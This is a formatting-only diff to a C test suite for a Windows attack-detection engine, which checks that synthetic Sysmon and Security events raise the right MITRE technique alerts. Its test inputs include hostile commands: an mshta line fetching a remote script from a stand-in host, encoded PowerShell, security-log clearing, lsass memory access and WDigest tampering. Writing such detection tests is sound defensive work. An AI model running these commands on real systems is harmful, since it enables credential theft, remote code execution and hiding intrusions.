@@ -24,80 +24,100 @@ static void ev_kv(det *x, const char *dataset, uint32_t code, const char *user, 
     feed(x, &ev);
 }
 
-static void sysmon(det *x, uint32_t code, const char *const *kv) { ev_kv(x, "windows.sysmon", code, NULL, kv); }
+static void sysmon(det *x, uint32_t code, const char *const *kv)
+{
+    ev_kv(x, "windows.sysmon", code, NULL, kv);
+}
 
 static void test_injection(det *x)
 {
-    sysmon(x, 8, (const char *[]){"SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                                  "TargetImage", "C:\\Windows\\System32\\notepad.exe", "StartFunction",
-                                  "LoadLibraryW", NULL});
+    sysmon(x, 8,
+           (const char *[]){"SourceImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                            "TargetImage", "C:\\Windows\\System32\\notepad.exe", "StartFunction",
+                            "LoadLibraryW", NULL});
     CHECK_INT(n_got, 1);
     CHECK(n_got && !strcmp(got[0]->techniques, "T1055,T1055.001") && strstr(got[0]->title, "DLL injection"));
     drop_all();
     /* Windows' own remote threads, and a process starting a thread in itself. */
-    sysmon(x, 8, (const char *[]){"SourceImage", "C:\\Windows\\System32\\csrss.exe", "TargetImage",
-                                  "C:\\Windows\\System32\\svchost.exe", NULL});
+    sysmon(x, 8,
+           (const char *[]){"SourceImage", "C:\\Windows\\System32\\csrss.exe", "TargetImage",
+                            "C:\\Windows\\System32\\svchost.exe", NULL});
     sysmon(x, 8, (const char *[]){"SourceImage", "C:\\a\\b.exe", "TargetImage", "C:\\A\\B.EXE", NULL});
     CHECK_INT(n_got, 0);
 }
 
 static void test_lsass(det *x)
 {
-    sysmon(x, 10, (const char *[]){"SourceImage", "C:\\Users\\bob\\Desktop\\Outflank-Dumpert.exe", "TargetImage",
-                                   "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1FFFFF", NULL});
+    sysmon(x, 10,
+           (const char *[]){"SourceImage", "C:\\Users\\bob\\Desktop\\Outflank-Dumpert.exe", "TargetImage",
+                            "C:\\Windows\\System32\\lsass.exe", "GrantedAccess", "0x1FFFFF", NULL});
     CHECK(find_key("host-attack|lsass|WS1|") && !strcmp(got[0]->techniques, "T1003.001"));
     drop_all();
     /* A query right only, unless the caller runs from code outside any module. */
-    sysmon(x, 10, (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
-                                   "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1000", "CallTrace",
-                                   "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e",
-                                   NULL});
+    sysmon(x, 10,
+           (const char *[]){
+               "SourceImage", "C:\\tools\\x.exe", "TargetImage", "C:\\Windows\\system32\\lsass.exe",
+               "GrantedAccess", "0x1000", "CallTrace",
+               "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e", NULL});
     CHECK_INT(n_got, 0);
-    sysmon(x, 10, (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
-                                   "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1000", "CallTrace",
-                                   "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|UNKNOWN(00000000001A0B2C)", NULL});
+    sysmon(x, 10,
+           (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
+                            "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1000", "CallTrace",
+                            "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|UNKNOWN(00000000001A0B2C)", NULL});
     CHECK(n_got == 1 && got[0]->severity == 80 && strstr(got[0]->title, "UNKNOWN"));
     drop_all();
     /* Windows' own readers, and full access to another process. */
-    sysmon(x, 10, (const char *[]){"SourceImage", "C:\\Windows\\system32\\svchost.exe", "TargetImage",
-                                   "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1fffff", NULL});
-    sysmon(x, 10, (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
-                                   "C:\\Windows\\system32\\lsass2.exe", "GrantedAccess", "0x1fffff", NULL});
+    sysmon(x, 10,
+           (const char *[]){"SourceImage", "C:\\Windows\\system32\\svchost.exe", "TargetImage",
+                            "C:\\Windows\\system32\\lsass.exe", "GrantedAccess", "0x1fffff", NULL});
+    sysmon(x, 10,
+           (const char *[]){"SourceImage", "C:\\tools\\x.exe", "TargetImage",
+                            "C:\\Windows\\system32\\lsass2.exe", "GrantedAccess", "0x1fffff", NULL});
     CHECK_INT(n_got, 0);
 }
 
 static void test_registry(det *x)
 {
-    sysmon(x, 13, (const char *[]){"EventType", "SetValue", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
-                                   "Details", "DWORD (0x00000001)", "Image", "C:\\x\\reg.exe", NULL});
+    sysmon(x, 13,
+           (const char *[]){
+               "EventType", "SetValue", "TargetObject",
+               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
+               "Details", "DWORD (0x00000001)", "Image", "C:\\x\\reg.exe", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1112,T1003.001") && strstr(got[0]->title, "WDigest"));
     drop_all();
     /* Older Sysmon writes the number alone. */
-    sysmon(x, 13, (const char *[]){"EventType", "SetValue", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
-                                   "Details", "1", NULL});
+    sysmon(x, 13,
+           (const char *[]){
+               "EventType", "SetValue", "TargetObject",
+               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
+               "Details", "1", NULL});
     CHECK_INT(n_got, 1);
     drop_all();
     /* Turning it off again, deleting it, or a key that only ends alike. */
-    sysmon(x, 13, (const char *[]){"EventType", "SetValue", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
-                                   "Details", "DWORD (0x00000000)", NULL});
-    sysmon(x, 12, (const char *[]){"EventType", "DeleteValue", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
-    sysmon(x, 13, (const char *[]){"EventType", "SetValue", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Services\\NotEventLog\\Start", "Details",
-                                   "DWORD (0x00000004)", NULL});
+    sysmon(x, 13,
+           (const char *[]){
+               "EventType", "SetValue", "TargetObject",
+               "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
+               "Details", "DWORD (0x00000000)", NULL});
+    sysmon(x, 12,
+           (const char *[]){"EventType", "DeleteValue", "TargetObject",
+                            "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
+    sysmon(x, 13,
+           (const char *[]){"EventType", "SetValue", "TargetObject",
+                            "HKLM\\System\\CurrentControlSet\\Services\\NotEventLog\\Start", "Details",
+                            "DWORD (0x00000004)", NULL});
     CHECK_INT(n_got, 0);
     /* Any write under a "*" row: the MiniNt key created. */
-    sysmon(x, 12, (const char *[]){"EventType", "CreateKey", "TargetObject",
-                                   "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
+    sysmon(x, 12,
+           (const char *[]){"EventType", "CreateKey", "TargetObject",
+                            "HKLM\\System\\CurrentControlSet\\Control\\MiniNt", NULL});
     CHECK(n_got == 1 && strstr(got[0]->techniques, "T1685.001"));
     drop_all();
     /* Security 4657: key and value name apart. */
     ev_kv(x, "windows.security", 4657, "admin",
           (const char *[]){"ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\EventLog",
-                           "ObjectValueName", "Start", "NewValue", "4", "ProcessName", "C:\\Windows\\regedit.exe", NULL});
+                           "ObjectValueName", "Start", "NewValue", "4", "ProcessName",
+                           "C:\\Windows\\regedit.exe", NULL});
     CHECK(n_got == 1 && strstr(got[0]->title, "Event Log service"));
     drop_all();
     ev_kv(x, "windows.security", 4657, "admin",
@@ -108,21 +128,25 @@ static void test_registry(det *x)
 
 static void test_logging_and_accounts(det *x)
 {
-    ev_kv(x, "windows.system", 7040, NULL,
-          (const char *[]){"param1", "Windows Event Log", "param2", "auto start", "param3", "disabled", NULL});
+    ev_kv(
+        x, "windows.system", 7040, NULL,
+        (const char *[]){"param1", "Windows Event Log", "param2", "auto start", "param3", "disabled", NULL});
     CHECK(n_got == 1 && strstr(got[0]->techniques, "T1685.001"));
     drop_all();
     ev_kv(x, "windows.system", 7040, NULL,
           (const char *[]){"param1", "Windows Update", "param2", "auto start", "param3", "disabled", NULL});
-    ev_kv(x, "windows.system", 7036, NULL, (const char *[]){"param1", "Windows Event Log", "param2", "running", NULL});
+    ev_kv(x, "windows.system", 7036, NULL,
+          (const char *[]){"param1", "Windows Event Log", "param2", "running", NULL});
     ev_kv(x, "windows.security", 4719, "admin", (const char *[]){"AuditPolicyChanges", "%%8449", NULL});
     CHECK_INT(n_got, 0);
-    ev_kv(x, "windows.security", 4719, "admin", (const char *[]){"AuditPolicyChanges", "%%8448, %%8450", NULL});
+    ev_kv(x, "windows.security", 4719, "admin",
+          (const char *[]){"AuditPolicyChanges", "%%8448, %%8450", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1685.001"));
     drop_all();
 
     ev_kv(x, "windows.security", 5136, "pgustavo",
-          (const char *[]){"AttributeLDAPDisplayName", "nTSecurityDescriptor", "ObjectDN", "DC=theshire,DC=local", NULL});
+          (const char *[]){"AttributeLDAPDisplayName", "nTSecurityDescriptor", "ObjectDN",
+                           "DC=theshire,DC=local", NULL});
     CHECK(n_got == 1 && strstr(got[0]->techniques, "T1222.001"));
     drop_all();
     ev_kv(x, "windows.security", 5136, "DC01$",
@@ -132,17 +156,20 @@ static void test_logging_and_accounts(det *x)
     CHECK_INT(n_got, 0);
 
     ev_kv(x, "windows.security", 4702, "pgustavo",
-          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager", NULL});
+          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
+                           NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1053.005"));
     drop_all();
     ev_kv(x, "windows.security", 4702, "WS1$",
-          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask", NULL});
-    ev_kv(x, "windows.security", 4698, "bob", (const char *[]){"TaskName", "\\OneDrive Standalone Update Task", NULL});
+          (const char *[]){"TaskName", "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\SvcRestartTask",
+                           NULL});
+    ev_kv(x, "windows.security", 4698, "bob",
+          (const char *[]){"TaskName", "\\OneDrive Standalone Update Task", NULL});
     CHECK_INT(n_got, 0);
 
     ev_kv(x, "windows.security", 4799, "pgustavo",
-          (const char *[]){"CallerProcessName", "C:\\Windows\\System32\\net1.exe", "TargetUserName", "Administrators",
-                           NULL});
+          (const char *[]){"CallerProcessName", "C:\\Windows\\System32\\net1.exe", "TargetUserName",
+                           "Administrators", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1069.001"));
     drop_all();
     ev_kv(x, "windows.security", 4799, "WS1$",
@@ -154,25 +181,30 @@ static void test_logging_and_accounts(det *x)
 static void test_secrets_pipes_accounts(det *x)
 {
     ev_kv(x, "windows.security", 4656, "pgustavo",
-          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD",
-                           "ProcessName", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", NULL});
+          (const char *[]){"ObjectType", "Key", "ObjectName",
+                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD", "ProcessName",
+                           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.002,T1003.004"));
     drop_all();
     /* lsass itself; the Lsa key (not its boot-key subkeys); a key that only ends alike. */
     ev_kv(x, "windows.security", 4663, "WS1$",
-          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD",
-                           "ProcessName", "C:\\Windows\\System32\\lsass.exe", NULL});
+          (const char *[]){"ObjectType", "Key", "ObjectName",
+                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa\\JD", "ProcessName",
+                           "C:\\Windows\\System32\\lsass.exe", NULL});
     ev_kv(x, "windows.security", 4656, "pgustavo",
-          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa",
-                           "ProcessName", "C:\\x\\csc.exe", NULL});
+          (const char *[]){"ObjectType", "Key", "ObjectName",
+                           "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa", "ProcessName",
+                           "C:\\x\\csc.exe", NULL});
     ev_kv(x, "windows.security", 4656, "pgustavo",
-          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\App\\NotJD", "ProcessName",
-                           "C:\\x\\a.exe", NULL});
+          (const char *[]){"ObjectType", "Key", "ObjectName", "\\REGISTRY\\MACHINE\\SOFTWARE\\App\\NotJD",
+                           "ProcessName", "C:\\x\\a.exe", NULL});
     CHECK_INT(n_got, 0);
 
     ev_kv(x, "windows.security", 5145, "pgustavo",
-          (const char *[]){"ShareName", "\\\\*\\IPC$", "RelativeTargetName", "svcctl", "IpAddress", "172.18.39.5", NULL});
-    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1021.002,T1569.002") && strstr(got[0]->title, "172.18.39.5"));
+          (const char *[]){"ShareName", "\\\\*\\IPC$", "RelativeTargetName", "svcctl", "IpAddress",
+                           "172.18.39.5", NULL});
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1021.002,T1569.002") &&
+          strstr(got[0]->title, "172.18.39.5"));
     drop_all();
     /* A machine account, a pipe not in the table, a file share. */
     ev_kv(x, "windows.security", 5145, "WEC$",
@@ -186,30 +218,36 @@ static void test_secrets_pipes_accounts(det *x)
     /* DCSync: replication rights used by a user account; a DC's own replication is quiet. */
     ev_kv(x, "windows.security", 4662, "pgustavo",
           (const char *[]){"SubjectUserName", "pgustavo", "Properties",
-                           "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
+                           "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-"
+                           "afd3-00c04fd930c9}",
                            NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.006"));
     drop_all();
     ev_kv(x, "windows.security", 4662, "DC2$",
-          (const char *[]){"SubjectUserName", "DC2$", "Properties", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", NULL});
+          (const char *[]){"SubjectUserName", "DC2$", "Properties",
+                           "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", NULL});
     ev_kv(x, "windows.security", 4662, "pgustavo",
-          (const char *[]){"SubjectUserName", "pgustavo", "Properties", "%%7684 {bf9679c0-0de6-11d0-a285-00aa003049e2}", NULL});
+          (const char *[]){"SubjectUserName", "pgustavo", "Properties",
+                           "%%7684 {bf9679c0-0de6-11d0-a285-00aa003049e2}", NULL});
     CHECK_INT(n_got, 0);
 
     ev_kv(x, "windows.security", 4742, "ANONYMOUS LOGON",
-          (const char *[]){"SubjectUserName", "ANONYMOUS LOGON", "SubjectUserSid", "S-1-5-7", "TargetUserName", "DC1$",
-                           "PasswordLastSet", "9/16/2020 11:40:05 PM", NULL});
+          (const char *[]){"SubjectUserName", "ANONYMOUS LOGON", "SubjectUserSid", "S-1-5-7",
+                           "TargetUserName", "DC1$", "PasswordLastSet", "9/16/2020 11:40:05 PM", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1210,T1098") && got[0]->severity >= 90);
     drop_all();
     ev_kv(x, "windows.security", 4742, "DC1$",
-          (const char *[]){"SubjectUserName", "DC1$", "SubjectUserSid", "S-1-5-18", "TargetUserName", "DC1$", NULL});
+          (const char *[]){"SubjectUserName", "DC1$", "SubjectUserSid", "S-1-5-18", "TargetUserName", "DC1$",
+                           NULL});
     CHECK_INT(n_got, 0);
     ev_kv(x, "windows.security", 4732, "admin",
-          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Administrators", "MemberName", "CN=eve", NULL});
+          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Administrators", "MemberName",
+                           "CN=eve", NULL});
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1098.007"));
     drop_all();
     ev_kv(x, "windows.security", 4732, "admin",
-          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Print Users", "MemberName", "CN=eve", NULL});
+          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "Print Users", "MemberName",
+                           "CN=eve", NULL});
     CHECK_INT(n_got, 0);
     ev_kv(x, "windows.security", 4738, "admin",
           (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl",
@@ -217,7 +255,8 @@ static void test_secrets_pipes_accounts(det *x)
     CHECK(n_got == 1 && strstr(got[0]->techniques, "T1558.004"));
     drop_all();
     ev_kv(x, "windows.security", 4738, "admin",
-          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl", "-", NULL});
+          (const char *[]){"SubjectUserName", "admin", "TargetUserName", "svc_sql", "UserAccountControl", "-",
+                           NULL});
     CHECK_INT(n_got, 0);
 }
 
@@ -228,18 +267,21 @@ static void start(det *x, const char *image, const char *cmd, const char *parent
     ev.process = ts_str_c(image);
     ev.command_line = ts_str_c(cmd);
     ev.parent_process = ts_str_c(parent);
-    set_fields(&ev, (const char *[]){"Image", image, "CommandLine", cmd, "ParentCommandLine", parent_cmd, NULL});
+    set_fields(&ev,
+               (const char *[]){"Image", image, "CommandLine", cmd, "ParentCommandLine", parent_cmd, NULL});
     feed(x, &ev);
 }
 
 static void test_process_starts(det *x)
 {
     start(x, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
-          "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /u c:\\ProgramData\\g.dll",
+          "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /u "
+          "c:\\ProgramData\\g.dll",
           "C:\\Windows\\System32\\cmd.exe", "");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.004"));
     drop_all();
-    start(x, "C:\\Windows\\System32\\mshta.exe", "mshta.exe javascript:a=GetObject('script:https://x.example/a.sct')",
+    start(x, "C:\\Windows\\System32\\mshta.exe",
+          "mshta.exe javascript:a=GetObject('script:https://x.example/a.sct')",
           "C:\\Windows\\System32\\cmd.exe", "");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1218.005"));
     drop_all();
@@ -251,12 +293,14 @@ static void test_process_starts(det *x)
     drop_all();
     start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i C:\\Users\\bob\\Downloads\\7z.msi",
           "C:\\Windows\\explorer.exe", "");
-    start(x, "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i \"\\\\deploy-01\\Packages\\office.msi\" /qn",
-          "C:\\Windows\\System32\\svchost.exe", "");
+    start(x, "C:\\Windows\\System32\\msiexec.exe",
+          "msiexec.exe /i \"\\\\deploy-01\\Packages\\office.msi\" /qn", "C:\\Windows\\System32\\svchost.exe",
+          "");
     CHECK_INT(n_got, 0);
     /* The same programs on Windows' own files; a program not in the table. */
     start(x, "C:\\Windows\\System32\\rundll32.exe",
-          "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009} -Embedding",
+          "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll "
+          "{9aa46009} -Embedding",
           "C:\\Windows\\System32\\svchost.exe", "");
     start(x, "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\System32\\msiexec.exe /V",
           "C:\\Windows\\System32\\services.exe", "");
@@ -266,7 +310,8 @@ static void test_process_starts(det *x)
 
     /* A script host starting PowerShell: the script's language from its name. */
     start(x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -noP -enc AAAA",
-          "C:\\Windows\\System32\\wscript.exe", "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\p\\Desktop\\launcher.vbs\"");
+          "C:\\Windows\\System32\\wscript.exe",
+          "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\p\\Desktop\\launcher.vbs\"");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1059.005"));
     drop_all();
     start(x, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", "C:\\Windows\\System32\\cscript.exe",
@@ -278,12 +323,14 @@ static void test_process_starts(det *x)
           "C:\\Windows\\System32\\cmd.exe", "");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1003.002"));
     drop_all();
-    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", "C:\\Windows\\System32\\cmd.exe", "");
+    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", "C:\\Windows\\System32\\cmd.exe",
+          "");
     CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1685.005"));
     drop_all();
     start(x, "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SOFTWARE\\Corp backup.hiv",
           "C:\\Windows\\System32\\cmd.exe", "");
-    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil qe Security /c:5", "C:\\Windows\\System32\\cmd.exe", "");
+    start(x, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil qe Security /c:5",
+          "C:\\Windows\\System32\\cmd.exe", "");
     CHECK_INT(n_got, 0);
 
     /* A logon script; a script host starting something that is not a shell. */
@@ -312,7 +359,8 @@ static void test_otrf(const ts_config *cfg)
         {"defense_evasion/cmd_psh_stop_netprofm_eventlog_before_reboot.json.gz", "T1685.001", 1},
         {"lateral_movement/schtask_modification.json.gz", "T1053.005", 1},
         {"credential_access/empire_powerdump_sam_access.json.gz", "T1003.002", 1},
-        {"lateral_movement/mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.json.gz", "T1210", 0},
+        {"lateral_movement/mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.json.gz", "T1210",
+         0},
         {"lateral_movement/covenant_sharpsc_query_dcerpc_smb_svcctl.json.gz", "T1021.002", 0},
         {"defense_evasion/covenant_installutil.json.gz", "T1218.004", 0},
         {"credential_access/covenant_dcsync_dcerpc_drsuapi_DsGetNCChanges.json.gz", "T1003.006", 0},
@@ -328,7 +376,8 @@ static void test_otrf(const ts_config *cfg)
         CHECK(feed_file(&x, path) > 0);
         size_t with = 0;
         for (size_t k = 0; k < n_got; k++)
-            with += cases[i].technique && got[k]->techniques && strstr(got[k]->techniques, cases[i].technique);
+            with +=
+                cases[i].technique && got[k]->techniques && strstr(got[k]->techniques, cases[i].technique);
         if (cases[i].technique)
             CHECK(with >= 1);
         if (n_got - with > cases[i].max_alerts)
